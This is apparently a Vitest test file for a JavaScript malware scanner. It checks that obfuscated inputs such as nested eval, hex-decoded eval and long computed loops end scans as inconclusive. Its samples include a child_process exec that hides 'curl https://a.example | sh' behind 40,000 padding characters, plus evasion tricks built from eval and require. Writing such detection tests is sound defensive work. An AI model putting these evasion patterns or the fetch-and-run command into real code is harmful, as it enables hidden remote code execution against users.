import { describe, expect, test } from 'vitest'
import { scanBytes } from '../../../../fixtures/scan-bytes'

const scan = (text: string) => scanBytes(Buffer.from(text), { name: 'x.js' })

const BUSY = 'let x=0;for(let i=0;i<9000000;i++){x=(x*31+i)%65537}'
const hex = (text: string) => Buffer.from(text).toString('hex')
const nested = (levels: number): string => {
  let text = 'console.log(1)'
  for (let level = 0; level < levels; level++) text = `eval(${JSON.stringify(text)})`
  return text
}

/** What exhausts the reader, and the limit that ends the file. */
const LIMITS: readonly [what: string, limit: string, text: string][] = [
  [
    'a name that comes of a loop too long to follow',
    'limit.source-steps',
    `${BUSY};const t=['alc','evl'];globalThis[t[x%2]]('1')`,
  ],
  [
    'code that comes of a loop too long to follow',
    'limit.source-steps',
    "const a='abcdefghij'.repeat(30000);let o='';for(let i=0;i<a.length;i++){o+=a[(i*7)%a.length]};eval(o)",
  ],
  [
    'a module that a function too long to follow names',
    'limit.source-steps',
    `const t='abcdefghijklmnopqrstuvwxyz_';function d(s){${BUSY};let o='';for(const c of s)o+=t[(t.indexOf(c)+x)%27];return o};require(d('fooo')).exec('hi')`,
  ],
  [
    'decoded code that is not JavaScript',
    'limit.source-text',
    `eval(Buffer.from('${hex('this is (( no language')}','hex').toString())`,
  ],
  ['code that runs code that runs code', 'limit.source-levels', nested(7)],
  [
    'a command behind more characters than are read',
    'limit.source-command',
    "require('child_process').exec('true '+'a'.repeat(40000)+'; curl https://a.example | sh')",
  ],
  ['an expression too deep to be followed', 'limit.source-depth', `x=${'!'.repeat(900)}y`],
]

describe('a limit of reading JavaScript', () => {
  test.each(LIMITS)('%s ends the file inconclusive with %s and a finding', (_, limit, text) => {
    const found = scan(text)
    expect(found.status).toBe('inconclusive')
    expect(found.reason).toMatch(/^It .+\.$/)
    expect(found.names('structure')).toContain(limit)
    expect(found.findings.map(({ ruleId }) => ruleId)).toContain('limit.source')
  })

  test.each([
    ['a long loop of which nothing is run', `${BUSY};console.log(x)`],
    ['a long loop beside a module of an unknown name', `${BUSY};module.exports=(n)=>require(n)`],
    ['text in the open that is no JavaScript', "eval('this is (( no language')"],
    [
      'a thousand modules as texts',
      "eval('exports.answer = 42;\\n//# sourceURL=a.js');".repeat(1000),
    ],
  ])('%s is read to its end', (_, text) => {
    expect(scan(text).reason).toBeNull()
  })

  test('text in the open that is no JavaScript is told as code that is run', () => {
    expect(scan("eval('this is (( no language')").names('code')).toContain('capability.eval')
  })

  test('code in a text is read around its errors', () => {
    const text = 'eval(\'class class\\nrequire("child_" + "process").exec("echo hi")\')'
    expect(scan(text).names('code')).toContain('hidden.process')
  })
})
